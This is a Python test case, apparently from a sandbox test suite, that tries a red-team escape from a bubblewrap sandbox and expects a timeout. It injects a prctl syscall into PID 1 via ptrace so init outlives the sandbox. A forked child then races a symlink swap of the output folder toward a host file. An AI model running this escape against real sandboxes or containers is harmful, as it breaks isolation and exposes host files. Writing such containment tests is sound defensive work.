# tries: the red team's escape: attach to the sandbox's init with ptrace, inject prctl(PR_SET_PDEATHSIG, 0) into
# it so it survives bwrap's death, then outlive the run and swap a scratch folder for a link to a host file
# expect: timed_out
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
PEEKTEXT, POKETEXT, GETREGS, SETREGS, ATTACH, DETACH, SINGLESTEP = 1, 4, 12, 13, 16, 17, 9
RAX, RSI, RDI, RIP = 10, 13, 14, 16  # indexes in x86_64's user_regs_struct


class Regs(ctypes.Structure):
    _fields_ = [("r", ctypes.c_ulong * 27)]


def inject_into_init() -> bool:
    if libc.ptrace(ATTACH, 1, None, None) != 0:
        print("contained: ptrace attach to pid 1:", os.strerror(ctypes.get_errno()))
        return False
    os.waitpid(1, 0x40000000)  # __WALL
    saved, regs = Regs(), Regs()
    libc.ptrace(GETREGS, 1, None, ctypes.byref(saved))
    ctypes.memmove(ctypes.byref(regs), ctypes.byref(saved), ctypes.sizeof(Regs))
    rip = saved.r[RIP]
    code = libc.ptrace(PEEKTEXT, 1, rip, None)
    libc.ptrace(POKETEXT, 1, rip, (code & ~0xFFFF) | 0x050F)  # the `syscall` instruction
    regs.r[RAX], regs.r[RDI], regs.r[RSI] = 157, 1, 0  # prctl(PR_SET_PDEATHSIG, 0)
    libc.ptrace(SETREGS, 1, None, ctypes.byref(regs))
    libc.ptrace(SINGLESTEP, 1, None, None)
    os.waitpid(1, 0x40000000)
    libc.ptrace(POKETEXT, 1, rip, code)
    libc.ptrace(SETREGS, 1, None, ctypes.byref(saved))
    libc.ptrace(DETACH, 1, None, None)
    return True


injected = inject_into_init()
print("injected into pid 1" if injected else "could not inject")
os.makedirs("out", exist_ok=True)
open("out/canary.txt", "w").write("decoy")
if os.fork() == 0:
    os.setsid()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:  # outlive the run, then race the host's read-back
        try:
            os.rename("out", "real")
            os.symlink(os.path.dirname("@CANARY@"), "out")
            time.sleep(0.001)
            os.unlink("out")
            os.rename("real", "out")
        except OSError:
            pass
    os._exit(0)
time.sleep(60)
